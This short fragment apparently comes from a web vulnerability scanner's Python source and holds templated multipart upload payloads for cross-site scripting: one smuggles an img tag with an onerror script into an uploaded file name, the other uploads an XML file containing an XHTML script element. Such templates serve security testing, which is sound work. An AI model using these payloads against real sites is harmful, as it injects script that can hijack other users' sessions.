  ¦ Content-Disposition: form-data; name="«word»"; filename="\"><img src=«ab» onerror=«js»>.png"«cr»«nl»Content-Type: image/png«cr»«nl»«cr»«nl»«rand»
  ¦ Content-Disposition: form-data; name="«word»"; filename="«rand».xml"«cr»«nl»Content-Type: text/xml«cr»«nl»«cr»«nl»<a:script xmlns:a="http://www.w3.org/1999/xhtml">«js»</a:script>
"""  # noqa: E501
